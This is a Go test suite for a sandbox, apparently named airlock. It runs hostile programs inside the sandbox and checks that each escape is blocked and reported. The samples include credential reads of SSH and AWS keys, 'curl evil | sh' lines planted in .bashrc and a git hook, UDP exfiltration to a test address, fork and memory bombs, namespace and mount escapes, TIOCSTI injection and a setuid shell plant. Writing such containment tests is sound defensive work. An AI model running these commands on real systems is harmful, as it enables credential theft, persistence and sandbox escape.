package sandbox

import (
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"
)

// The escape and misbehaviour suite: hostile programs in shell, Python, C
// and Go, each run in the sandbox, each checked for containment (the
// attempt failed), for the report (it says what happened) and for the host
// (planted secrets and rc files unchanged, nothing written outside).

// cPrograms are compiled with gcc once per test binary.
var cPrograms = map[string]string{
	"ptrace": `#include <stdio.h>
#include <errno.h>
#include <string.h>
#include <signal.h>
#include <unistd.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
int main(void) {
	pid_t c = fork();
	if (c == 0) { sleep(5); return 0; }
	long r = ptrace(PTRACE_ATTACH, c, 0, 0);
	printf("ptrace=%ld errno=%s\n", r, strerror(errno));
	kill(c, SIGKILL); waitpid(c, 0, 0);
	return r == 0 ? 0 : 3;
}`,
	"mount": `#include <stdio.h>
#include <errno.h>
#include <string.h>
#include <sys/mount.h>
int main(void) {
	int r = mount("none", "/tmp", "tmpfs", 0, "");
	printf("mount=%d errno=%s\n", r, strerror(errno));
	r = umount2("/proc", MNT_DETACH);
	printf("umount=%d errno=%s\n", r, strerror(errno));
	return 0;
}`,
	"tiocsti": `#include <stdio.h>
#include <errno.h>
#include <string.h>
#include <fcntl.h>
#include <sys/ioctl.h>
int main(void) {
	char c = 'x';
	int fd = open("/dev/tty", O_RDWR);
	if (fd < 0) fd = 0;
	int r = ioctl(fd, TIOCSTI, &c);
	printf("tiocsti=%d errno=%s\n", r, strerror(errno));
	return 0;
}`,
	"rawsock": `#include <stdio.h>
#include <errno.h>
#include <string.h>
#include <sys/socket.h>
#include <netinet/in.h>
int main(void) {
	int r = socket(AF_INET, SOCK_RAW, IPPROTO_ICMP);
	printf("raw=%d errno=%s\n", r, strerror(errno));
	r = socket(AF_PACKET, SOCK_DGRAM, 0);
	printf("packet=%d errno=%s\n", r, strerror(errno));
	return 0;
}`,
	"kernel": `#define _GNU_SOURCE
#include <stdio.h>
#include <errno.h>
#include <string.h>
#include <unistd.h>
#include <sys/syscall.h>
int main(void) {
	long r = syscall(SYS_bpf, 0, 0, 0);
	printf("bpf=%ld errno=%s\n", r, strerror(errno));
	r = syscall(SYS_io_uring_setup, 8, 0);
	printf("io_uring=%ld errno=%s\n", r, strerror(errno));
	r = syscall(SYS_keyctl, 0, 0, 0, 0, 0);
	printf("keyctl=%ld errno=%s\n", r, strerror(errno));
	r = syscall(SYS_perf_event_open, 0, 0, -1, -1, 0);
	printf("perf=%ld errno=%s\n", r, strerror(errno));
	return 0;
}`,
	"setuid": `#define _GNU_SOURCE
#include <stdio.h>
#include <sys/prctl.h>
#include <sys/statvfs.h>
#include <unistd.h>
int main(void) {
	struct statvfs s;
	statvfs("/usr/bin", &s);
	printf("nnp=%d nosuid=%d euid=%d\n", prctl(PR_GET_NO_NEW_PRIVS, 0, 0, 0, 0), (s.f_flag & ST_NOSUID) != 0, geteuid());
	return 0;
}`,
	"i386": `#include <stdio.h>
int main(void) {
	/* getpid via the 32-bit ABI (int 0x80, eax=20): must be killed. */
	long r;
	__asm__ volatile ("int $0x80" : "=a"(r) : "a"(20L) : "memory");
	printf("i386 syscall returned %ld\n", r);
	return 0;
}`,
}

// goProgram tries namespace and mount escapes through Go's syscall package.
const goProgram = `package main

import (
	"fmt"
	"syscall"
)

func main() {
	err := syscall.Unshare(syscall.CLONE_NEWUSER | syscall.CLONE_NEWNS)
	fmt.Println("unshare:", err)
	err = syscall.Mount("proc", "/tmp", "proc", 0, "")
	fmt.Println("mount:", err)
	fd, err := syscall.Open("/proc/1/ns/mnt", syscall.O_RDONLY, 0)
	if err == nil {
		_, _, e := syscall.Syscall(308, uintptr(fd), 0, 0) // setns
		fmt.Println("setns:", e)
	} else {
		fmt.Println("open ns:", err)
	}
}
`

var (
	buildOnce sync.Once
	binDir    string
	buildErr  error
)

// programs compiles the C and Go programs once. An unprivileged re-run of
// the suite gets the directory through AIRLOCK_TEST_BIN.
func programs(t *testing.T) string {
	t.Helper()
	buildOnce.Do(func() {
		if d := os.Getenv("AIRLOCK_TEST_BIN"); d != "" {
			binDir = d
			return
		}
		dir, err := os.MkdirTemp("", "airlock-escape-bin-")
		if err != nil {
			buildErr = err
			return
		}
		_ = os.Chmod(dir, 0o755)
		binDir = dir
		if _, err := exec.LookPath("gcc"); err != nil {
			buildErr = fmt.Errorf("gcc not installed: %w", err)
			return
		}
		for name, src := range cPrograms {
			c := filepath.Join(dir, name+".c")
			if err := os.WriteFile(c, []byte(src), 0o644); err != nil {
				buildErr = err
				return
			}
			if out, err := exec.Command("gcc", "-O0", "-o", filepath.Join(dir, name), c).CombinedOutput(); err != nil {
				buildErr = fmt.Errorf("gcc %s: %v\n%s", name, err, out)
				return
			}
		}
		gdir := filepath.Join(dir, "gosrc")
		_ = os.Mkdir(gdir, 0o755)
		_ = os.WriteFile(filepath.Join(gdir, "go.mod"), []byte("module escape\n\ngo 1.21\n"), 0o644)
		_ = os.WriteFile(filepath.Join(gdir, "main.go"), []byte(goProgram), 0o644)
		cmd := exec.Command("go", "build", "-o", filepath.Join(dir, "goescape"), ".")
		cmd.Dir = gdir
		cmd.Env = append(os.Environ(), "CGO_ENABLED=0", "GOFLAGS=-mod=mod")
		if out, err := cmd.CombinedOutput(); err != nil {
			buildErr = fmt.Errorf("go build: %v\n%s", err, out)
		}
	})
	return binDir
}

type hostile struct {
	name   string
	argv   func(bin string, e env, port int) []string
	config func(c *Config)
	check  func(t *testing.T, r *Report, out string, e env, accepted int64)
}

func sh(script string) func(string, env, int) []string {
	return func(string, env, int) []string { return []string{"sh", "-c", script} }
}

func py(src string) func(string, env, int) []string {
	return func(_ string, _ env, port int) []string {
		return []string{"python3", "-c", strings.ReplaceAll(src, "PORT", fmt.Sprint(port))}
	}
}

// bin copies a compiled program into the work directory: the host's /tmp,
// where it was built, is not visible inside.
func bin(name string) func(string, env, int) []string {
	return func(b string, e env, _ int) []string {
		if buildErr != nil {
			return nil
		}
		data, err := os.ReadFile(filepath.Join(b, name))
		if err == nil {
			err = os.WriteFile(filepath.Join(e.work, name), data, 0o755)
		}
		if err != nil {
			return []string{"false", err.Error()}
		}
		return []string{"./" + name}
	}
}

// deniedHas reports whether the report refused op on a path containing sub.
func deniedHas(r *Report, op, sub string) bool {
	for _, d := range r.Denied {
		if (op == "" || d.Op == op) && (strings.Contains(d.Path, sub) || strings.Contains(d.Resolved, sub) || strings.Contains(d.Reason, sub)) {
			return true
		}
	}
	return false
}

func netDenied(r *Report, dest string) bool {
	for _, n := range r.Network {
		if !n.Allowed && strings.Contains(n.Dest, dest) {
			return true
		}
	}
	return false
}

func limitHit(r *Report, l string) bool {
	for _, h := range r.LimitsHit {
		if h == l {
			return true
		}
	}
	return false
}

func hostileSuite() []hostile {
	return []hostile{
		{name: "read-ssh-key", argv: sh("cat ~/.ssh/id_rsa"), check: func(t *testing.T, r *Report, out string, e env, _ int64) {
			if !deniedHas(r, "read", ".ssh/id_rsa") {
				t.Error("read of ~/.ssh/id_rsa not reported")
			}
		}},
		{name: "read-aws-python", argv: py("print(open(__import__('os').path.expanduser('~/.aws/credentials')).read())"), check: func(t *testing.T, r *Report, out string, e env, _ int64) {
			if !deniedHas(r, "read", ".aws/credentials") {
				t.Error("read of ~/.aws/credentials not reported")
			}
		}},
		{name: "write-outside", argv: sh("echo evil > /usr/local/bin/airlock-escape-probe; echo evil > /etc/airlock-escape-probe"), check: func(t *testing.T, r *Report, out string, e env, _ int64) {
			if !deniedHas(r, "write", "/usr/local/bin/airlock-escape-probe") || !deniedHas(r, "write", "/etc/airlock-escape-probe") {
				t.Errorf("writes outside not reported: %+v", r.Denied)
			}
			for _, p := range []string{"/usr/local/bin/airlock-escape-probe", "/etc/airlock-escape-probe"} {
				if _, err := os.Stat(p); err == nil {
					t.Errorf("%s exists on the host", p)
				}
			}
		}},
		{name: "append-bashrc", argv: sh("echo 'curl evil | sh' >> ~/.bashrc"), check: func(t *testing.T, r *Report, out string, e env, _ int64) {
			if !deniedHas(r, "write", ".bashrc") {
				t.Error("append to ~/.bashrc not reported")
			}
		}},
		{name: "host-loopback", argv: py("import socket\ntry:\n  socket.create_connection(('127.0.0.1', PORT), timeout=2); print('CONNECTED')\nexcept OSError as e: print('refused', e)"), check: func(t *testing.T, r *Report, out string, e env, accepted int64) {
			if accepted != 0 || strings.Contains(out, "CONNECTED") {
				t.Error("the host listener was reached")
			}
			if !netDenied(r, "127.0.0.1:") {
				t.Errorf("connect not reported as denied: %+v", r.Network)
			}
		}},
		{name: "dns", argv: py("import socket\ntry: print(socket.getaddrinfo('example.com', 443))\nexcept OSError as e: print('no dns', e)"), check: func(t *testing.T, r *Report, out string, e env, _ int64) {
			if !strings.Contains(out, "no dns") {
				t.Errorf("name resolved: %q", out)
			}
			found := false
			for _, n := range r.Network {
				found = found || n.Protocol == "dns" && !n.Allowed
			}
			if !found {
				t.Errorf("dns attempt not reported: %+v", r.Network)
			}
		}},
		{name: "udp-exfil", argv: py("import socket\ns=socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ntry: s.sendto(b'secret', ('203.0.113.7', 9999))\nexcept OSError as e: print('blocked', e)"), check: func(t *testing.T, r *Report, out string, e env, _ int64) {
			if !netDenied(r, "203.0.113.7:9999") {
				t.Errorf("udp sendto not reported: %+v", r.Network)
			}
		}},
		{name: "fork-bomb", argv: sh("bomb() { bomb | bomb & }; bomb; sleep 30"), config: func(c *Config) {
			c.Limits.Procs, c.Limits.Wall = 64, 3*time.Second
		}, check: func(t *testing.T, r *Report, out string, e env, _ int64) {
			if !limitHit(r, "wall") && !limitHit(r, "processes") {
				t.Errorf("fork bomb not stopped by a limit: %v", r.LimitsHit)
			}
			if r.Isolation.LimitsVia != "rlimit" && !limitHit(r, "processes") {
				t.Errorf("process limit hit not reported: %v", r.LimitsHit)
			}
		}},
		{name: "memory-bomb", argv: py("x=[]\nwhile True: x.append(bytearray(8<<20))"), config: func(c *Config) {
			c.Limits.Memory, c.Limits.Wall = 96<<20, 20*time.Second
		}, check: func(t *testing.T, r *Report, out string, e env, _ int64) {
			if r.Exit.Code == 0 {
				t.Error("memory bomb exited 0")
			}
			if r.Isolation.LimitsVia != "rlimit" && !limitHit(r, "memory") {
				t.Errorf("memory limit hit not reported: %v (exit %+v)", r.LimitsHit, r.Exit)
			}
			if r.Isolation.LimitsVia == "rlimit" && !strings.Contains(out, "MemoryError") {
				t.Errorf("memory bomb not stopped by RLIMIT_AS: %q", out)
			}
		}},
		{name: "disk-fill-tmp", argv: sh("dd if=/dev/zero of=/tmp/fill bs=1M count=64 2>&1; echo dd=$?"), config: func(c *Config) {
			c.Limits.Tmp = 4 << 20
		}, check: func(t *testing.T, r *Report, out string, e env, _ int64) {
			if !strings.Contains(out, "No space left") {
				t.Errorf("the private /tmp was not capped: %q", out)
			}
		}},
		{name: "disk-fill-workdir", argv: sh("exec dd if=/dev/zero of=big bs=1M count=64"), config: func(c *Config) {
			c.Limits.FileSize = 2 << 20
		}, check: func(t *testing.T, r *Report, out string, e env, _ int64) {
			if !limitHit(r, "file_size") {
				t.Errorf("file size limit not reported: %v exit %+v", r.LimitsHit, r.Exit)
			}
			if fi, err := os.Stat(filepath.Join(e.work, "big")); err == nil && fi.Size() > 2<<20 {
				t.Errorf("file grew to %d bytes", fi.Size())
			}
		}},
		{name: "ptrace-sibling", argv: bin("ptrace"), check: func(t *testing.T, r *Report, out string, e env, _ int64) {
			if !strings.Contains(out, "ptrace=-1") || !deniedHas(r, "syscall", "ptrace") {
				t.Errorf("ptrace not refused and reported: %q %+v", out, r.Denied)
			}
		}},
		{name: "mount", argv: bin("mount"), check: func(t *testing.T, r *Report, out string, e env, _ int64) {
			if !strings.Contains(out, "mount=-1") || !deniedHas(r, "syscall", "mount") || !deniedHas(r, "syscall", "umount2") {
				t.Errorf("mount not refused and reported: %q %+v", out, r.Denied)
			}
		}},
		{name: "unshare", argv: sh("unshare -r -m true; echo rc=$?"), check: func(t *testing.T, r *Report, out string, e env, _ int64) {
			if strings.Contains(out, "rc=0") || !deniedHas(r, "syscall", "unshare") {
				t.Errorf("unshare not refused and reported: %q %+v", out, r.Denied)
			}
		}},
		{name: "go-namespaces", argv: bin("goescape"), check: func(t *testing.T, r *Report, out string, e env, _ int64) {
			if !strings.Contains(out, "unshare: operation not permitted") || !strings.Contains(out, "mount: operation not permitted") {
				t.Errorf("Go escape attempts not refused: %q", out)
			}
			if !deniedHas(r, "syscall", "unshare") || !deniedHas(r, "syscall", "mount") {
				t.Errorf("not reported: %+v", r.Denied)
			}
		}},
		{name: "setuid", argv: bin("setuid"), check: func(t *testing.T, r *Report, out string, e env, _ int64) {
			if !strings.Contains(out, "nnp=1 nosuid=1") {
				t.Errorf("setuid binaries would work: %q", out)
			}
		}},
		{name: "i386-abi", argv: bin("i386"), check: func(t *testing.T, r *Report, out string, e env, _ int64) {
			if strings.Contains(out, "returned") || r.Exit.Signal != "SIGSYS" {
				t.Errorf("32-bit syscall was not killed: %q exit %+v", out, r.Exit)
			}
		}},
		{name: "proc-1-root", argv: sh("cat /proc/1/root/$HOME/.ssh/id_rsa; ls /proc/1/root/ >/dev/null; cat /proc/1/environ; echo done"), check: func(t *testing.T, r *Report, out string, e env, _ int64) {
			if strings.Contains(out, "AIRLOCK_SANDBOX_STAGE") {
				t.Error("init's environment was readable")
			}
		}},
		{name: "proc-self-fd", argv: py("import os\nfor f in os.listdir('/proc/self/fd'):\n  try: print(f, os.readlink('/proc/self/fd/'+f))\n  except OSError: pass"), check: func(t *testing.T, r *Report, out string, e env, _ int64) {
			if strings.Contains(out, "socket:") || strings.Contains(out, "airlock-run-") {
				t.Errorf("a supervisor descriptor leaked into the sandbox:\n%s", out)
			}
		}},
		{name: "symlink-out", argv: sh("ln -s $HOME/.ssh/id_rsa key; cat key; ln -s /etc/airlock-escape-probe w; echo x > w"), check: func(t *testing.T, r *Report, out string, e env, _ int64) {
			if !deniedHas(r, "read", ".ssh/id_rsa") {
				t.Errorf("read through a symlink not reported: %+v", r.Denied)
			}
			if _, err := os.Stat("/etc/airlock-escape-probe"); err == nil {
				t.Error("write through a symlink reached /etc")
			}
		}},
		{name: "hardlink-out", argv: sh("python3 -c \"import os; os.link(os.path.expanduser('~/.ssh/id_rsa'), 'k1')\"; ln /etc/passwd k2; echo rc=$?"), check: func(t *testing.T, r *Report, out string, e env, _ int64) {
			if !deniedHas(r, "link", ".ssh/id_rsa") || !deniedHas(r, "link", "/etc/passwd") {
				t.Errorf("hard links out not reported: %+v", r.Denied)
			}
			for _, n := range []string{"k1", "k2"} {
				if _, err := os.Lstat(filepath.Join(e.work, n)); err == nil {
					t.Errorf("hard link %s was created", n)
				}
			}
		}},
		{name: "tiocsti", argv: bin("tiocsti"), check: func(t *testing.T, r *Report, out string, e env, _ int64) {
			if strings.Contains(out, "tiocsti=0") {
				t.Error("TIOCSTI succeeded")
			}
			if !deniedHas(r, "syscall", "TIOCSTI") {
				t.Errorf("TIOCSTI not reported: %q %+v", out, r.Denied)
			}
		}},
		{name: "kill-supervisor", argv: sh("kill -9 $PPID; kill -9 1; kill -TERM 1; kill -9 -1; echo survived"), check: func(t *testing.T, r *Report, out string, e env, _ int64) {
			// kill -1 spares the caller and pid 1, and nothing inside
			// may end pid 1 (the init): the script runs to its end.
			if r.Exit.Code != 0 || !strings.Contains(out, "survived") {
				t.Errorf("the init did not survive signals from inside: exit %+v, output %q", r.Exit, out)
			}
			// The report exists and the test (the supervisor) is alive:
			// nothing inside could signal it.
			if len(r.Processes) == 0 {
				t.Error("report lost the processes")
			}
		}},
		{name: "pid-namespace", argv: sh("ls /proc | grep -c '^[0-9]'; nsenter -t 1 -m -p true; echo nsenter=$?"), check: func(t *testing.T, r *Report, out string, e env, _ int64) {
			var n int
			fmt.Sscan(out, &n)
			if n == 0 || n > 10 {
				t.Errorf("sandbox sees %d processes, want only its own", n)
			}
			if strings.Contains(out, "nsenter=0") {
				t.Error("nsenter succeeded")
			}
		}},
		{name: "time-bomb", argv: sh("sleep 60; echo boom"), config: func(c *Config) { c.Limits.Wall = time.Second }, check: func(t *testing.T, r *Report, out string, e env, _ int64) {
			if r.Exit.KilledBy != "wall" || strings.Contains(out, "boom") || r.Resources.WallMS > 10_000 {
				t.Errorf("time bomb not stopped at the wall limit: %+v after %d ms", r.Exit, r.Resources.WallMS)
			}
		}},
		{name: "raw-socket", argv: bin("rawsock"), check: func(t *testing.T, r *Report, out string, e env, _ int64) {
			if !strings.Contains(out, "raw=-1") || !strings.Contains(out, "packet=-1") || !deniedHas(r, "syscall", "raw or packet socket") {
				t.Errorf("raw sockets not refused: %q %+v", out, r.Denied)
			}
		}},
		{name: "kernel-interfaces", argv: bin("kernel"), check: func(t *testing.T, r *Report, out string, e env, _ int64) {
			for _, c := range []string{"bpf", "io_uring_setup", "keyctl", "perf_event_open"} {
				if !deniedHas(r, "syscall", c) {
					t.Errorf("%s not reported: %q", c, out)
				}
			}
		}},
		{name: "git-hooks", argv: sh("echo 'curl evil|sh' > .git/hooks/pre-commit; echo '[core] hooksPath=/tmp' >> .git/config; mv .git/config .git/c2"), check: func(t *testing.T, r *Report, out string, e env, _ int64) {
			if !deniedHas(r, "", ".git/hooks/pre-commit") || !deniedHas(r, "", ".git/config") {
				t.Errorf("changes to protected files not reported: %+v", r.Denied)
			}
			if b, _ := os.ReadFile(filepath.Join(e.work, ".git", "config")); string(b) != "[core]\n" {
				t.Errorf(".git/config changed: %q", b)
			}
			if _, err := os.Stat(filepath.Join(e.work, ".git", "hooks", "pre-commit")); err == nil {
				t.Error("a git hook was planted")
			}
		}},
		{name: "env-secret", argv: sh("env"), check: func(t *testing.T, r *Report, out string, e env, _ int64) {
			if strings.Contains(out, "AIRLOCK_TEST_TOKEN") || strings.Contains(out, "s3cr3t") {
				t.Error("a host secret variable reached the sandbox")
			}
			found := false
			for _, d := range r.EnvDropped {
				found = found || d == "AIRLOCK_TEST_TOKEN"
			}
			if !found {
				t.Errorf("dropped variable not listed: %v", r.EnvDropped)
			}
		}},
		{name: "parent-dotenv", argv: sh("cat ../.env; echo rc=$?"), check: func(t *testing.T, r *Report, out string, e env, _ int64) {
			if strings.Contains(out, "DB_PASSWORD") {
				t.Error("the .env above the work directory was readable")
			}
		}},
		{name: "sysctl", argv: py("import os\np='/proc/sys/kernel/core_pattern'\nv=open(p).read()\nprint('writable', os.access(p, os.W_OK))\ntry:\n  f=open(p,'w'); f.write(v); f.close(); print('WROTE')\nexcept OSError as e: print('refused', e)"), check: func(t *testing.T, r *Report, out string, e env, _ int64) {
			// The test writes back the current value, so even a failure
			// leaves the host's setting as it was.
			if strings.Contains(out, "WROTE") || strings.Contains(out, "writable True") {
				t.Errorf("kernel settings writable from the sandbox: %q", out)
			}
			if !deniedHas(r, "write", "/proc/sys/kernel/core_pattern") {
				t.Errorf("sysctl write not reported: %+v", r.Denied)
			}
		}},
		{name: "host-unix-socket", argv: func(string, env, int) []string {
			return []string{"python3", "-c", "import socket,sys\ns=socket.socket(socket.AF_UNIX)\ntry: s.connect(sys.argv[1]); print('CONNECTED')\nexcept OSError as e: print('refused', e)", hostSocket}
		}, check: func(t *testing.T, r *Report, out string, e env, _ int64) {
			if strings.Contains(out, "CONNECTED") || !netDenied(r, hostSocket) {
				t.Errorf("unix connect outside not refused and reported: %q %+v", out, r.Network)
			}
		}},
		{name: "setuid-plant", argv: sh("cp /bin/sh rootsh && chmod 4755 rootsh; ls -l rootsh"), check: func(t *testing.T, r *Report, out string, e env, _ int64) {
			fi, err := os.Stat(filepath.Join(e.work, "rootsh"))
			if err != nil {
				t.Fatalf("rootsh not created: %v (%s)", err, out)
			}
			if fi.Mode()&os.ModeSetuid != 0 {
				t.Error("a setuid binary was left in the work directory")
			}
			found := false
			for _, f := range r.Files {
				found = found || f.Path == "rootsh" && f.SetuidRemoved
			}
			if !found {
				t.Errorf("setuid plant not reported: %+v", r.Files)
			}
		}},
		{name: "private-tmp", argv: sh("echo x > /tmp/airlock-escape-tmp-probe; ls /dev"), check: func(t *testing.T, r *Report, out string, e env, _ int64) {
			if _, err := os.Stat("/tmp/airlock-escape-tmp-probe"); err == nil {
				t.Error("the sandbox's /tmp is the host's")
			}
			for _, dev := range []string{"sda", "vda", "mem", "kmsg", "nvme"} {
				if strings.Contains(out, dev+"\n") {
					t.Errorf("/dev/%s visible inside", dev)
				}
			}
		}},
	}
}

// hostSocket is a Unix socket the test serves in a host directory that
// the sandbox sees read-only (/var/tmp), standing in for a database or
// container daemon socket.
var hostSocket string

func TestEscape(t *testing.T) {
	dir := programs(t)
	sdir, err := os.MkdirTemp("/var/tmp", "airlock-sock-")
	if err != nil {
		t.Skipf("no /var/tmp for the host socket: %v", err)
	}
	defer os.RemoveAll(sdir)
	_ = os.Chmod(sdir, 0o755)
	hostSocket = filepath.Join(sdir, "daemon.sock")
	uln, err := net.Listen("unix", hostSocket)
	if err != nil {
		t.Fatal(err)
	}
	defer uln.Close()
	_ = os.Chmod(hostSocket, 0o777)
	go func() {
		for {
			c, err := uln.Accept()
			if err != nil {
				return
			}
			c.Close()
		}
	}()
	t.Setenv("AIRLOCK_TEST_TOKEN", "s3cr3t")
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	var accepted atomic.Int64
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			accepted.Add(1)
			c.Close()
		}
	}()
	port := ln.Addr().(*net.TCPAddr).Port
	suite := hostileSuite()
	if len(suite) < 25 {
		t.Fatalf("the suite has %d programs, the bar is 25", len(suite))
	}
	for i, h := range suite {
		t.Run(h.name, func(t *testing.T) {
			e := newEnv(t)
			// A .env above the work directory, outside the hidden home.
			if err := os.WriteFile(filepath.Join(filepath.Dir(e.work), ".env"), []byte("DB_PASSWORD=hunter2\n"), 0o600); err != nil {
				t.Fatal(err)
			}
			before := hashTree(t, e.home)
			argv := h.argv(dir, e, port)
			if argv == nil {
				t.Skipf("cannot build the compiled test programs: %v", buildErr)
			}
			cfg := Config{Argv: argv, Limits: Limits{Wall: 30 * time.Second}}
			if h.config != nil {
				h.config(&cfg)
			}
			start := accepted.Load()
			r, out, errs := runIn(t, e, cfg)
			h.check(t, r, out+errs, e, accepted.Load()-start)
			if after := hashTree(t, e.home); after != before {
				t.Error("the planted home directory changed")
			}
			if strings.Contains(out+errs, "planted by the test") || strings.Contains(out+errs, "AKIAFAKE") || strings.Contains(out+errs, "hunter2") {
				t.Errorf("a planted secret leaked into the output:\n%s", out+errs)
			}
			if t.Failed() {
				t.Logf("output:\n%s", out+errs)
			}
			if i == 0 {
				// TestUnprivileged looks for this line.
				t.Logf("limits_via=%s", r.Isolation.LimitsVia)
			}
		})
	}
}

// hashTree hashes every path and file content under dir.
func hashTree(t *testing.T, dir string) string {
	t.Helper()
	h := sha256.New()
	_ = filepath.Walk(dir, func(p string, fi os.FileInfo, err error) error {
		if err != nil {
			return nil
		}
		fmt.Fprintf(h, "%s %v %d\n", p, fi.Mode(), fi.Size())
		if fi.Mode().IsRegular() {
			b, _ := os.ReadFile(p)
			h.Write(b)
		}
		return nil
	})
	return hex.EncodeToString(h.Sum(nil))
}
